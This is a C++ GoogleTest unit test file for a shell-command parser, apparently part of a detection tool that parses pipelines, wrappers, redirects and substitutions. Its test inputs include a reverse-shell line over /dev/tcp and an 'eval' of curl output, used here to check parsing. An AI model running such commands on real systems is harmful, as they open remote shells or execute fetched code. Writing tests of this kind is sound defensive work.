#include "shell_command.hpp"

#include <gtest/gtest.h>

namespace rescue::detect {
namespace {

/// Pipelines as text: words joined by blanks, "|" between commands, ";" between pipelines, {…} what is
/// nested.
std::string shape(const std::vector<ShellPipeline>& pipelines) {
  std::string out;
  for (const auto& pipeline : pipelines) {
    if (!out.empty()) out += ";";
    for (std::size_t i = 0; i < pipeline.commands.size(); ++i) {
      const auto& command = pipeline.commands[i];
      if (i > 0) out += "|";
      for (std::size_t w = 0; w < command.words.size(); ++w) out += (w > 0 ? " " : "") + command.words[w];
      for (const auto& file : command.redirects) out += " >" + file;
      if (!command.substituted.empty()) out += "{" + shape(command.substituted) + "}";
      if (!command.given.empty()) out += "<" + shape(command.given) + ">";
    }
  }
  return out;
}
std::string parsed(const std::string& text) {
  return shape(parse_shell(text));
}

TEST(Shell, SplitsListsPipesAndQuotes) {
  EXPECT_EQ(parsed("a 'b c' \"d e\" f\\ g && h || i; j & k"), "a b c d e f g;h;i;j;k");
  EXPECT_EQ(parsed("a | b |& c # d | e"), "a|b|c");
  EXPECT_EQ(parsed("a#b '#c'"), "a#b #c");
}

TEST(Shell, TakesWrappersAndAssignmentsOff) {
  EXPECT_EQ(parsed("X=1 sudo -n nohup env Y=2 /usr/bin/timeout 10 curl z"), "curl z");
  EXPECT_EQ(parsed("if true; then exec a; fi"), "true;a;fi");
}

TEST(Shell, KnowsWhereOutputGoes) {
  EXPECT_EQ(parsed("a >/dev/null 2>&1"), "a >/dev/null");
  EXPECT_EQ(parsed("a >> f < g &> h"), "a >f >h");
  EXPECT_EQ(parsed("bash -i >& /dev/tcp/h/1 0>&1"), "bash -i /dev/tcp/h/1");
}

TEST(Shell, LooksIntoSubstitutionsAndTextsGivenToShells) {
  EXPECT_EQ(parsed("sh -c 'a | b'"), "sh -c a | b<a|b>");
  EXPECT_EQ(parsed("x $(a `b`) <(c)"), "x a `b` c{a b{b};c}");
  EXPECT_EQ(parsed("eval \"$(curl u)\""), "eval curl u{curl u}<curl u>");
  EXPECT_EQ(parsed("(a; b) | c"), "<a;b>|c");
}

TEST(Shell, EndsOnAnythingCut) {
  for (const auto* text :
       {"'", "\"", "\"$(", "`", "$(", "(((", ")))", "a >", "a \\", "|||", "<(", "$((1+1))"}) {
    EXPECT_LE(parse_shell(text).size(), 2U) << text;
  }
}

}  // namespace
}  // namespace rescue::detect
